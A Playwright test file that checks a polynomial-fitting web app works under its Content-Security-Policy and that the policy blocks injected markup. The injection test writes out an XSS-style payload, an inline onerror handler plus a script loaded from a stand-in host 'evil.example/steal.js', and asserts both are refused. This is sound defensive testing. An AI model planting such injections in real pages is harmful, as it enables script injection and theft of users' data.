"""The app works under its Content-Security-Policy, and the policy stops injected markup.

The conftest serves the app with ``python -m polyfit_explorer``, whose every
page carries the policy of ``polyfit_explorer.server``.  A violation fires a
``securitypolicyviolation`` event in the page, recorded here from before the
page's first script: not every violation reaches the console (Bokeh's WebGL
renderer catches a blocked ``Function()`` and quietly draws without WebGL).
"""

from __future__ import annotations

import re

import pytest
from playwright.sync_api import Page, expect

from ._bokeh import RENDERED, SETTLED, sources
from .conftest import _WATCH
from .test_app import wait_for_change

#: Record every violation the page reports, from its first script on.
RECORD_VIOLATIONS = """
window.__violations = [];
document.addEventListener("securitypolicyviolation", event => window.__violations.push({
  directive: event.effectiveDirective, blocked: event.blockedURI,
  source: event.sourceFile, line: event.lineNumber}));
"""

#: What a shared link's markup could put into the page: an inline handler on an
#: image that fails to load (data:, so no request is made), and a script from
#: another origin.  A listener of the test's own tells that the error did fire.
INJECT = """() => {
  window.__ran = [];
  window.__errored = false;
  const box = document.createElement("div");
  box.innerHTML = '<img src="data:," onerror="window.__ran.push(\\'img\\')">';
  box.querySelector("img").addEventListener("error", () => { window.__errored = true; });
  document.body.append(box);
  const script = document.createElement("script");
  script.src = "https://evil.example/steal.js";
  document.head.append(script);
}"""

#: The other tabs of "Why does it fit like this?"; the first, Validation curve, is open.
#: Each is opened once: going back to a tab already shown sometimes makes Bokeh
#: raise "Cannot read properties of undefined (reading 'top_panel')", with or
#: without the policy.
TABS = ["Bias & variance", "Learning curve", "Coefficients", "Residuals"]
#: A diagnostic may take a few seconds on a busy machine.
COMPUTE_TIMEOUT = 60_000
LOAD_TIMEOUT = 30_000

CSV_ROWS = 10


@pytest.fixture
def app(page: Page, app_url: str) -> Page:
    """The app under its policy, drawn, with every violation recorded."""
    page.add_init_script(RECORD_VIOLATIONS)
    response = page.goto(app_url, timeout=LOAD_TIMEOUT)
    assert "'nonce-" in response.headers["content-security-policy"], "no policy in force"
    page.wait_for_function(RENDERED, timeout=LOAD_TIMEOUT)
    return page


def violations(page: Page) -> list[dict]:
    return page.evaluate("window.__violations")


def download(page: Page, label: str) -> bytes:
    # Not get_by_role(name=...): MUI's tooltip makes the button's doc its accessible name.
    with page.expect_download() as info:
        page.get_by_role("button").filter(has_text=label).click()
    return info.value.path().read_bytes()


def excuse(request: pytest.FixtureRequest, pattern: str) -> None:
    """Drop the console errors matching ``pattern`` from the conftest's clean-run check."""
    errors = request.node.stash[_WATCH].browser_errors
    errors[:] = [error for error in errors if not re.search(pattern, error)]


def test_the_app_works_under_its_policy_without_a_violation(app: Page):
    csp_messages = []
    app.on("console", lambda message: csp_messages.append(message.text)
           if "Content Security Policy" in message.text else None)

    # A slider moved with the keyboard refits over the websocket.
    before = sources(app)
    degree = app.get_by_role("slider", name="Degree", exact=True)
    start = int(degree.get_attribute("aria-valuenow"))
    degree.focus()
    degree.press("ArrowRight")
    expect(degree).to_have_attribute("aria-valuenow", str(start + 1))
    wait_for_change(app, "fit", before["fit"])

    for title in TABS:
        tab = app.get_by_role("tab", name=title)
        tab.click()
        expect(tab).to_have_attribute("aria-selected", "true")
        app.wait_for_function(SETTLED, timeout=COMPUTE_TIMEOUT)

    app.get_by_text("Noise lab", exact=True).click()
    expect(app.get_by_role("slider", name="Outlier fraction", exact=True)).to_be_visible()

    assert download(app, "Data (CSV)").startswith(b"x,y,split")
    assert b"import numpy" in download(app, "Script (Python)")
    assert download(app, "Model (skops)").startswith(b"PK")  # a zip file

    rows = "".join(f"{t},{2 * t + 1}\n" for t in range(CSV_ROWS))
    app.get_by_label("Ground truth", exact=True).select_option("Your data (CSV upload)")
    app.locator("input[type=file]").set_input_files(
        files=[{"name": "mine.csv", "mimeType": "text/csv", "buffer": f"t,v\n{rows}".encode()}])
    expect(app.locator("td.train-n")).to_have_text(str(int(CSV_ROWS * 0.8)))
    app.wait_for_function(SETTLED, timeout=COMPUTE_TIMEOUT)

    assert violations(app) == []
    assert csp_messages == []


def test_injected_markup_does_not_run_and_is_reported(app: Page, request):
    with (app.expect_console_message(lambda m: "inline event handler" in m.text),
          app.expect_console_message(lambda m: "evil.example" in m.text)):
        app.evaluate(INJECT)
    app.wait_for_function("() => window.__errored && window.__violations.length >= 2")

    assert app.evaluate("window.__ran") == []
    assert sorted((v["directive"], v["blocked"]) for v in violations(app)) == [
        ("script-src-attr", "inline"),
        ("script-src-elem", "https://evil.example/steal.js"),
    ]
    # The two refusals are the console errors this test provokes; nothing else may be.
    excuse(request, r"Executing inline event handler violates .* Content Security Policy")
    excuse(request, r"Loading the script 'https://evil\.example/steal\.js' violates")
